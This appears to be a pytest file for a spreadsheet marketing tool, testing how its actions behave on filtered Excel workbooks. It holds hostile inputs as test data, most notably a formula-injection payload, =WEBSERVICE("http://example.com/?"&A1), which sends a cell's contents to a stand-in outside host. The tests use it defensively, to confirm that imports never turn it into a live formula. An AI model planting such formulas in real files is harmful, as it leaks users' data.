"""Every action on a workbook that is filtered, with hidden rows, as if open in Excel."""

from __future__ import annotations

import datetime as dt
import re
import shutil
import zipfile
from collections.abc import Callable
from decimal import Decimal
from functools import partial
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import xlwings as xw

from smarketing_xl import actions, sample
from smarketing_xl.book import read, write
from smarketing_xl.cli.app import make
from smarketing_xl.errors import WorkbookError
from smarketing_xl.hosts import opened
from smarketing_xl.schema import named_cells, tables
from tests.hosts.excel.strict import ERRORS, ComError, StrictExcel, strict_excel
from tests.hosts.file.valid import schema_faults
from tests.ingest.whatsapp_chats import FORMATS

NOW = sample.AS_OF


def csv(header: str, row: Callable[[int], str], numbers: range = range(240)) -> str:
    return "\n".join([header, *map(row, numbers), ""])


FILES = {
    "leads": csv(
        "Lead ID,Company,E-mail,Status,Created,Owner,Industry",
        lambda n: (
            f"L{n},Firm {n % 30},a{n % 30}@firm.com,"
            f"{('Won', 'New', 'New')[n % 3]},2026-01-1{n % 9},{('Ana', 'Bo')[n % 2]},"
            f"{('Health', 'Retail')[n % 4 != 3]}"
        ),
    ),
    "interactions": csv(
        "Lead ID,Time,Channel,Kind",
        lambda n: f"L{n},2026-01-1{n % 9} 10:00,{('E-mail', 'Search')[n % 2]},Visit",
    ),
    "customers": csv(
        "Customer ID,Lead ID,Company,Customer since,Revenue",
        lambda n: f"C{n},L{n},Firm {n},2026-03-1{n % 9},{(1000, 9000)[n % 4 == 3] + n}",
        range(0, 240, 3),
    ),
    "spend": "Month,Channel,Cost\n2026-01-01,Search,100\n2026-01-01,E-mail,50\n",
}
ACTIONS: dict[str, Callable[[xw.Book], Any]] = {
    "plan": actions.plan,
    "duplicates": actions.find_duplicates,
    "score": partial(actions.score, now=NOW),
    "sla": partial(actions.sla, now=NOW),
    "attribution": partial(actions.attribution, now=NOW),
    "import": lambda book: actions.import_file(book, _more(book), "leads"),
    "merge": lambda book: [actions.find_duplicates(book), actions.merge_duplicates(book)],
    "learn and adopt": lambda book: _learn_and_adopt(book),
    "deals": lambda book: actions.import_file(book, _deals(book), "leads"),
    "chats": lambda book: actions.bring_in(book, actions.prepare_chats(book, *_chats(book))),
    "undo": lambda book: [actions.score(book, now=NOW), actions.undo(book)],
    "refresh": partial(actions.refresh, now=NOW),
}
READERS: dict[str, Callable[[xw.Book, Path], object]] = {
    "check": lambda book, _path: actions.check(book).notes,
    "export": lambda book, path: [
        actions.export_leads(book, path, "google-ads", "EUR", "UTC").rows, path.read_bytes()
    ],
    "calls of a day": lambda book, _path: actions.day_list(book, now=NOW).written("text"),
}  # fmt: skip


def _learn_and_adopt(book: xw.Book) -> None:
    actions.learn(book, now=NOW)
    proposal = read.read_table(book, tables.PROPOSAL)
    tick = write.Columns(tables.PROPOSAL, proposal[["take"]].assign(take=True))
    write.commit(write.plan_writes(book, [tick]))
    assert actions.adopt(book).rows


def _deals(book: xw.Book) -> Path:
    path = Path(book.fullname).with_name("deals.csv")
    path.write_text(
        "Record ID,Deal Name,Deal Stage,Close Date,Amount,Deal owner,Create Date,"
        "Associated Contact\n"
        "1,One,closedwon,2026-03-14 10:00,1500,Ana,2026-01-12 09:00,A (a1@firm.com)\n"
        "2,Two,Closed Lost,2026-03-20 10:00,2500,Ana,2026-01-13 09:00,B (b@other.com)\n"
        "3,Three,Contract Sent,2027-05-30 10:00,9000,Ana,2026-01-14 09:00,C (a4@firm.com)\n"
    )
    return path


def _chats(book: xw.Book) -> tuple[Path, Path]:
    folder = Path(book.fullname).with_name("chats")
    folder.mkdir(exist_ok=True)
    time = dt.datetime(2026, 1, 20, 9)
    FORMATS[1].write(folder, "Al", [(time, "Al", "=1+1"), (time.replace(hour=10), "Eva", "yes")])
    mapping = folder.with_name("chats.toml")
    mapping.write_text('[leads]\n"Al" = "L1"\n')
    return folder, mapping


def _more(book: xw.Book) -> Path:
    """With headers that no table of Excel takes as they are."""
    path = Path(book.fullname).with_name("more.csv")
    hostile = ",".join(("n" * 300, "a_x000D_b", "bell\x07", "company ", "=1+1", "<&>", "n" * 300))
    rows = [f"{lead},{'x,' * 7}y" for lead in ("L1,Other", "L2,Again", "L5,More", "L900,New firm")]
    path.write_text("\n".join([f"Lead ID,Company,{hostile},'", *rows, ""]), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("filled")
    path = make(folder / "book.xlsm", "en")
    with opened(path, "file") as book:
        for kind, text in FILES.items():
            source = folder / f"{kind}.csv"
            source.write_text(text, encoding="utf-8")
            actions.import_file(book, source, kind)  # type: ignore[arg-type]
    return path


@pytest.fixture
def path(filled: Path, tmp_path: Path) -> Path:
    return Path(shutil.copy(filled, tmp_path / "book.xlsm"))


def contents(book: xw.Book) -> dict[str, Any]:
    """All that the tables hold but for when it was filled."""
    return {
        table.name: read.raw_frame(read.find_table(book, table)).to_dict("list")
        for table in tables.TABLES
        if table.name not in ("Log", "Journal")
    }


def filtered(state: StrictExcel) -> None:
    """Leads shows those won, three further rows are hidden, Interactions shows one channel."""
    leads = read.find_table(state.book, tables.LEADS)
    state.filter("Leads", leads.offsets["status"] + 1, "Won")
    touches = read.find_table(state.book, tables.INTERACTIONS)
    state.filter("Interactions", touches.offsets["channel"] + 1, "Search")
    state.hidden |= {(leads.sheet.name, leads.top + number) for number in (1, 2, 7)}


@pytest.mark.parametrize("name", ACTIONS)
def test_an_action_fills_a_filtered_workbook_as_any_other(
    path: Path, tmp_path: Path, name: str
) -> None:
    plain = Path(shutil.copy(path, tmp_path / "plain.xlsm"))
    with opened(plain, "file") as book:
        ACTIONS[name](book)
        wanted = contents(book)
    assert schema_faults(plain) == []
    with strict_excel(path) as state:
        filtered(state)
        before = {table: dict(it.wanted) for table, it in state.filters.items() if it.wanted}
        hidden = set(state.hidden)
        ACTIONS[name](state.book)
        assert {table: it.wanted for table, it in state.filters.items() if it.wanted} == before
        assert state.hidden == hidden
        assert state.book.app.screen_updating and state.book.app.calculation == "automatic"
        assert state.writes and not state.drawn_writes
        assert contents(state.book) == wanted


@pytest.mark.parametrize(
    ("part", "right", "wrong"),
    [
        ("xl/tables/table1.xml", b"tableColumns", b"tableColums"),
        ("xl/worksheets/sheet3.xml", b"<sheetData>", b"<sheetDate/><sheetData>"),
        ("xl/workbook.xml", b"<definedName ", b'<definedName hiden="1" '),
    ],
)
def test_the_schema_notices_a_broken_workbook(
    path: Path, part: str, right: bytes, wrong: bytes
) -> None:
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    assert right in parts[part]
    with zipfile.ZipFile(path, "w") as new:
        for name, data in parts.items():
            new.writestr(name, data.replace(right, wrong) if name == part else data)
    assert schema_faults(path)


@pytest.mark.parametrize("name", READERS)
def test_what_only_reads_changes_nothing_and_says_the_same(
    path: Path, tmp_path: Path, name: str
) -> None:
    plain = Path(shutil.copy(path, tmp_path / "plain.xlsm"))
    with opened(plain, "file", save=False) as book:
        wanted = READERS[name](book, tmp_path / "leads.csv")
    with strict_excel(path) as state:
        filtered(state)
        assert READERS[name](state.book, tmp_path / "leads.csv") == wanted
        assert not state.writes and len(state.hidden) == 3


def test_everything_updated_is_few_writes(path: Path) -> None:
    with strict_excel(path) as state:
        for most in (60, 20, 20):  # first, then with a journal that is full
            state.writes = 0
            actions.refresh(state.book, now=NOW)
            assert state.writes <= most


def test_the_double_misplaces_what_is_written_over_a_filter(path: Path) -> None:
    with strict_excel(path) as state:
        leads = read.find_table(state.book, tables.LEADS)
        state.filter("Leads", leads.offsets["status"] + 1, "Won")
        cells = leads.block(0, leads.offsets["company"], 4, 1)
        cells.value = [["one"], ["two"], ["three"], ["four"]]
        assert cells.value == ["one", "Firm 1", "Firm 2", "one"]


def test_what_landed_elsewhere_is_put_back_and_said(
    path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.platform", "darwin")  # where filters cannot be lifted
    with strict_excel(path) as state:
        filtered(state)
        before = contents(state.book)
        with pytest.raises(WorkbookError, match="into other rows"):
            actions.score(state.book, now=NOW)
        del before["Leads"]
        assert {k: v for k, v in contents(state.book).items() if k != "Leads"} == before


def test_after_a_failure_the_filter_and_the_screen_are_as_before(
    path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with strict_excel(path) as state:
        filtered(state)
        before = contents(state.book)
        monkeypatch.setattr(write, "_check_landed", _fail)
        with pytest.raises(RuntimeError):
            actions.score(state.book, now=NOW)
        assert state.filters["Leads"].wanted and len(state.hidden) == 3
        assert state.book.app.screen_updating and state.book.app.calculation == "automatic"
        assert contents(state.book) == before


def _fail(_write: object) -> None:
    raise RuntimeError("Excel went away")


def test_a_protected_sheet_is_said_and_nothing_changes(path: Path) -> None:
    with strict_excel(path) as state:
        state.protected.add("Leads")
        before = contents(state.book)
        with pytest.raises(WorkbookError, match=r"protected.*Unprotect"):
            actions.score(state.book, now=NOW)
        assert contents(state.book) == before


def test_currencies_are_numbers(path: Path) -> None:
    with strict_excel(path) as state:
        for name in ("quota", "avg_revenue", "last_year_sales"):
            cell = read.named_range(state.book, name)
            state.currency.add((cell.sheet.name, cell.row, cell.column))
            assert type(cell.value) is Decimal
        spend = read.find_table(state.book, tables.SPEND)
        column = spend.left + spend.offsets["cost"]
        state.currency |= {(spend.sheet.name, spend.top + row, column) for row in (1, 2)}
        goals = read.read_cells(state.book, named_cells.GOALS)
        assert goals["quota"] == 1_800_000.0
        assert read.read_table(state.book, tables.SPEND)["cost"].tolist() == [100.0, 50.0]
        assert actions.plan(state.book).rows == 12


def test_errors_are_blank_and_times_are_those_of_the_sheet(path: Path) -> None:
    with strict_excel(path) as state:
        leads = read.find_table(state.book, tables.LEADS)
        wanted = read.read_table(state.book, tables.LEADS)["created"]
        assert wanted.notna().all()
        for row, text in enumerate(ERRORS, 1):
            for key in ("created", "company", "revenue", "score"):
                place = leads.sheet.name, leads.top + row, leads.left + leads.offsets[key]
                state.errors[place] = text
        found = read.read_table(state.book, tables.LEADS)
        assert found[["created", "revenue"]].head(len(ERRORS)).isna().all(axis=None)
        assert found["company"].head(len(ERRORS)).isna().all()
        pd.testing.assert_series_equal(found["created"][len(ERRORS) :], wanted[len(ERRORS) :])
        cell = read.named_range(state.book, "quota")
        state.errors[cell.sheet.name, cell.row, cell.column] = "#SPILL!"
        assert read.read_cells(state.book, named_cells.GOALS)["quota"] is None
        assert actions.score(state.book, now=NOW).rows == 240


def test_a_workbook_that_only_a_cloud_has_is_filled(path: Path) -> None:
    with strict_excel(path) as state:
        source = _more(state.book)
        state.in_cloud = True
        actions.import_file(state.book, source, "leads")
        assert "L900" in read.read_table(state.book, tables.LEADS)["lead_id"].tolist()


def test_long_texts_are_written_where_excel_takes_none_in_an_array(path: Path) -> None:
    def companies() -> list[str]:
        found = read.read_table(state.book, tables.LEADS).set_index("lead_id")["company"]
        return list(found[list(LONG)])

    with strict_excel(path) as state:
        leads, before = read.find_table(state.book, tables.LEADS), companies()
        with pytest.raises(ComError, match="1004"):
            leads.block(0, 0, 2, 1).value = [["a"], ["a" * 912]]
        rows = [f"{lead},{text},{text}" for lead, text in LONG.items()]
        source = path.with_name("long.csv")
        source.write_text("\n".join(["Lead ID,Company,Owner", *rows, ""]))
        actions.import_file(state.book, source, "leads")
        assert companies() == list(LONG.values())
        conflicts = read.raw_frame(read.find_table(state.book, tables.CONFLICTS))
        assert set(LONG.values()) <= set(conflicts.to_numpy().ravel())  # each has an owner already
        actions.undo(state.book)
        assert companies() == before


LONG = {"L0": "a" * 911, "L1": "b" * 912, "L2": "c" * 9_000, "L3": "d"}
ATTACK = '=WEBSERVICE("http://example.com/?"&A1)'


@pytest.mark.parametrize("host", ["file", "excel"])
def test_repair_and_undo_leave_a_text_that_begins_a_formula_text(host: str, path: Path) -> None:
    with opened(path, "file") as book:
        leads = path.with_name("more.csv")
        quoted = ATTACK.replace('"', '""')
        leads.write_text(f'Lead ID,Company,Income\nL900,"{quoted}",10\n')
        actions.import_file(book, leads, "leads")
        place = read.find_table(book, tables.LEADS)
        row = read.raw_frame(place)["lead_id"].eq("L900").to_numpy().argmax()
        place.block(int(row), place.offsets["income"], 1, 1).value = "1,200.50 €"
        place.block(int(row), place.offsets["name"], 1, 1).value = ATTACK
        place.block(-1, place.offsets["owner"], 1, 1).value = ATTACK

    def mended(book: xw.Book) -> None:
        actions.repair(book)
        lead = read.read_table(book, tables.LEADS).set_index("lead_id").loc["L900"]
        assert (lead["name"], lead["company"], lead["income"]) == (ATTACK, ATTACK, 1200.5)
        actions.undo(book)
        cells = read.raw_frame(read.find_table(book, tables.LEADS)).set_index("lead_id")
        assert cells.loc["L900", ["name", "company", "income"]].tolist() == [
            ATTACK,
            ATTACK,
            "1,200.50 €",
        ]

    if host == "file":
        with opened(path, "file") as book:
            mended(book)
        assert b"WEBSERVICE" not in b"".join(re.findall(rb"<f>[^<]*</f>", _sheets(path)))
        return
    with strict_excel(path) as state:
        mended(state.book)


def _sheets(path: Path) -> bytes:
    with zipfile.ZipFile(path) as package:
        names = [name for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
        return b"".join(map(package.read, names))
